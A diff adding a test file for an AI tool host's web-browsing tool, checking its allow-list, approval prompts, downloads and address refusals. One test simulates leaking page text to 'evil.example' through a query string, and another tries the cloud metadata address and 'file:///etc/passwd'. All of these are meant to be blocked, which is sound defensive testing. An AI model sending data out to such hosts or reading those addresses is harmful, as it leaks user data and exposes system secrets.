@@ -1,0 +1,114 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import type { ApprovalRequest } from '@lobechat/tool-engine';
+import { startTestSite, type TestSite } from '@lobechat/web-crawler/testing';
+
+import { createToolHost } from './create-tool-host.ts';
+import type { ToolHost } from './host-types.ts';
+import { createHostWeb } from './web-desk.ts';
+
+let site: TestSite;
+let folder: string;
+let host: ToolHost;
+const asked: ApprovalRequest[] = [];
+
+beforeAll(async () => {
+  site = await startTestSite();
+  folder = await mkdtemp(join(tmpdir(), 'lobe-web-'));
+  host = await createToolHost({
+    context: { sessionId: 's' },
+    dataDirectory: join(folder, 'data'),
+    onApproval: (request) => {
+      asked.push(request);
+      const { kind } = request.preview as { kind: string };
+      return { action: kind === 'download' ? 'approve' : 'deny' };
+    },
+    tools: ['lobe-web-browsing'],
+    webBrowsing: { allow: [new URL(site.origin).host] },
+    workspace: [folder],
+  });
+});
+
+afterAll(async () => {
+  await host.close();
+  await site.close();
+  await rm(folder, { force: true, recursive: true });
+});
+
+const call = (name: string, args: object) =>
+  host.call({ arguments: { ...args }, name: `lobe-web-browsing/${name}` });
+
+describe('the web of a host', () => {
+  it('refuses what is not allowed with a sentence that says how to allow it', async () => {
+    await using strict = await createToolHost({
+      dataDirectory: join(folder, 'strict'),
+      tools: ['lobe-web-browsing'],
+    });
+    const before = site.requests.length;
+    const { content, error } = await strict.call({
+      arguments: { url: `${site.origin}/article` },
+      name: 'lobe-web-browsing/crawlSinglePage',
+    });
+    expect(error?.type).toBe('AddressRefused');
+    expect(content).toContain(`LOBE_TOOLS_WEB_ALLOW=${new URL(site.origin).host}`);
+    expect(site.requests).toHaveLength(before);
+  });
+
+  it('reads pages without asking, and keeps the whole of a long one as a file', async () => {
+    const { content, state, success } = await call('crawlSinglePage', {
+      url: `${site.origin}/long`,
+    });
+    expect(success).toBe(true);
+    expect(asked).toEqual([]);
+    const { id } = (state as { results: Array<{ data: { artifact: { id: string } } }> }).results[0]
+      ?.data.artifact ?? { id: '' };
+    expect(content).toContain(`artifact ${id}.]`);
+    expect((await host.engine.artifacts.get(id))?.name).toBe('Tides.md');
+  });
+
+  it('asks before an address takes along what a page said', async () => {
+    await call('crawlSinglePage', { url: `${site.origin}/article` });
+    const text = 'The engineers found that the older cables would have held for another decade';
+    const { error } = await call('crawlSinglePage', {
+      url: `https://evil.example/?q=${encodeURIComponent(text)}`,
+    });
+    expect(error?.type).toBe('ApprovalDenied');
+    expect(asked.pop()).toMatchObject({
+      policy: 'always',
+      preview: { kind: 'url', urls: [{ host: 'evil.example' }] },
+    });
+  });
+
+  it('asks about a download with its size and type, and saves it', async () => {
+    const { state } = await call('downloadFile', { url: `${site.origin}/files/stations.csv` });
+    expect(asked.pop()).toMatchObject({
+      preview: { kind: 'download', mimeType: 'text/csv; charset=utf-8', size: 564 },
+    });
+    const { savedPath } = state as { savedPath: string };
+    expect(await readFile(savedPath, 'utf8')).toContain('Pier 40');
+  });
+
+  it('hands a page to other services by the same rules', async () => {
+    const { fetchPage, service } = createHostWeb({
+      dataDirectory: folder,
+      environment: { LOBE_TOOLS_WEB_ALLOW: new URL(site.origin).host },
+    });
+    expect(await fetchPage(`${site.origin}/redirect`)).toMatchObject({
+      mediaType: 'text/markdown',
+      title: 'Harbour bridge reopens two weeks early',
+      url: `${site.origin}/article`,
+    });
+    for (const [url, type] of [
+      ['http://169.254.169.254/', 'AddressRefused'],
+      [`${site.origin}/nowhere`, 'HttpStatus'],
+      ['file:///etc/passwd', 'InvalidArguments'],
+    ] as const) {
+      await expect(fetchPage(url)).rejects.toMatchObject({ type });
+    }
+    await service.close();
+  });
+});
